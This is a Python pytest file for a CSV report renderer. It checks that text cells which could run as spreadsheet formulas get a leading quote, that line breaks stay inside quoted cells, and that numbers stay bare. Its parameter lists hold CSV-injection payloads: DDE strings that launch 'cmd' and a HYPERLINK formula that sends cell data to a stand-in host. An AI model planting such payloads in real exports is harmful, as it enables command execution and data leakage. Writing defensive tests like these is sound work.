"""The CSV renderer never writes a cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from core.reports.model import ImageRow
from core.reports.text import CSV_COLUMNS, FORMULA_STARTS, csv_row, csv_table, csv_text

T = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)


def image_row(**changes: Any) -> ImageRow:
    row = ImageRow(
        generation_id="00000000-0000-0000-0000-000000000001",
        index=1,
        kind="imagine",
        user="Alice",
        platform="slack",
        created_at=T,
        finished_at=None,
        prompt="a sneaker",
        final_prompt="a sneaker, ACME style",
        seed=7,
        model="tiny",
        steps=8,
        width=128,
        height=128,
        preset="acme-spring",
        preset_version="0123456789ab",
        favourites=0,
        likes=0,
        dislikes=0,
        grid_favourites=0,
        grid_likes=0,
        grid_dislikes=0,
        approved=False,
        approved_by=(),
        approved_at=None,
        palette_score=None,
        storage_key="ab/cd.png",
    )
    return replace(row, **changes)


def cells(row: list[object]) -> dict[str, str]:
    (parsed,) = csv.DictReader(io.StringIO(csv_table(CSV_COLUMNS, [row])))
    return parsed


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "-5",
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_quote(text: str) -> None:
    assert csv_text(text) == "'" + text
    row = cells(csv_row(image_row(user=text, prompt=text, final_prompt=text)))
    assert row["user"] == row["prompt"] == row["final_prompt"] == "'" + text


@pytest.mark.parametrize("text", ["Alice", "a = b", "'quoted", "1+1", "", "Zoë @home", " =x"])
def test_other_text_is_left_alone(text: str) -> None:
    assert csv_text(text) == text
    assert cells(csv_row(image_row(user=text)))["user"] == text


def test_joined_lists_are_escaped_as_one_cell() -> None:
    row = cells(csv_row(image_row(approved_by=("=evil()", "Rita"), approved=True)))
    assert row["approved_by"] == "'=evil(); Rita"
    assert row["approved"] == "yes"


def test_numbers_stay_numbers_even_negative_ones() -> None:
    values = csv_row(image_row(seed=-5, palette_score=-0.25, steps=30))
    by_column = dict(zip(CSV_COLUMNS, values, strict=True))
    assert by_column["seed"] == -5
    assert by_column["palette_score"] == -0.25
    assert by_column["steps"] == 30
    assert cells(values)["seed"] == "-5"


def test_no_cell_of_a_hostile_row_starts_a_formula() -> None:
    hostile = "=cmd|' /C calc'!A0"
    row = image_row(
        user=hostile,
        prompt="@" + hostile,
        final_prompt="+" + hostile,
        model="-" + hostile,
        preset="\t" + hostile,
        approved_by=("\r" + hostile,),
    )
    for column, cell in cells(csv_row(row)).items():
        assert not cell.startswith(FORMULA_STARTS), column


def test_a_line_break_in_a_cell_never_starts_a_row() -> None:
    rows = [csv_row(image_row(user=f"x{brk}=1+1", index=n)) for n, brk in enumerate("\r\n", 1)]
    text = csv_table(CSV_COLUMNS, rows)
    # a spreadsheet starts a row at a bare CR or LF: both stay inside a quoted cell
    assert '"x\r=1+1"' in text
    assert '"x\n=1+1"' in text
    assert [r["user"] for r in csv.DictReader(io.StringIO(text))] == ["x\r=1+1", "x\n=1+1"]
    assert text.count("\n") == 3 + 1  # header, two rows, and the line feed inside a quoted cell


def test_text_is_quoted_and_numbers_are_bare() -> None:
    text = csv_table(CSV_COLUMNS, [csv_row(image_row(seed=-5, user="Alice"))])
    line = text.splitlines()[1]
    assert line.startswith('"00000000-0000-0000-0000-000000000001",1,"imagine","Alice",')
    assert ",-5," in line
